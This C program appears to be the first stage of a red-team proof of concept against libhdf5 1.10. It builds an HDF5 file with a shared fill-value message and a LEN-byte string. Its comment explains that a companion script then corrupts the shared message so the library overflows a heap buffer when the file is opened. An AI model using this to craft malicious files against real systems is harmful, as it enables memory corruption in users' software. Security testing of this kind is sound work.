/* A netCDF-4-like file whose string dataset's fill value message is shared (red team s33
 * HG6): a shared-message index for fill values (HDF5's SOHM), a string dataset `s` holding
 * one LEN-byte string (global heap object 1), and string datasets `u` and `v` with the same
 * NULL fill value, so that HDF5 keeps v's fill value message in the shared-message heap.
 * shared_fill.py then makes that shared message name the LEN-byte heap object with a
 * length of 1 (libhdf5 1.10 then writes past its buffer while opening the file).
 *
 * Usage: shared_fill OUT LEN    (built against the system's libhdf5 1.10) */
#include <hdf5.h>
#include <stdlib.h>
#include <string.h>

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    int len = atoi(argv[2]);
    hid_t create = H5Pcreate(H5P_FILE_CREATE);
    H5Pset_shared_mesg_nindexes(create, 1);
    H5Pset_shared_mesg_index(create, 0, H5O_SHMESG_FILL_FLAG, 8);
    hid_t access = H5Pcreate(H5P_FILE_ACCESS);
    H5Pset_libver_bounds(access, H5F_LIBVER_LATEST, H5F_LIBVER_LATEST);
    hid_t file = H5Fcreate(argv[1], H5F_ACC_TRUNC, create, access);
    hid_t string = H5Tcopy(H5T_C_S1);
    H5Tset_size(string, H5T_VARIABLE);
    hsize_t one = 1, four = 4;
    char *text = malloc(len + 1);
    memset(text, 'A', len);
    text[len] = 0;
    hid_t single = H5Screate_simple(1, &one, NULL);
    hid_t s = H5Dcreate2(file, "s", string, single, H5P_DEFAULT, H5P_DEFAULT, H5P_DEFAULT);
    H5Dwrite(s, string, H5S_ALL, H5S_ALL, H5P_DEFAULT, &text);
    H5Dclose(s);
    hid_t four_of = H5Screate_simple(1, &four, NULL);
    hid_t properties = H5Pcreate(H5P_DATASET_CREATE);
    char *fill = NULL;
    H5Pset_fill_value(properties, string, &fill);
    H5Dclose(H5Dcreate2(file, "u", string, four_of, H5P_DEFAULT, properties, H5P_DEFAULT));
    H5Dclose(H5Dcreate2(file, "v", string, four_of, H5P_DEFAULT, properties, H5P_DEFAULT));
    return H5Fclose(file) < 0;
}
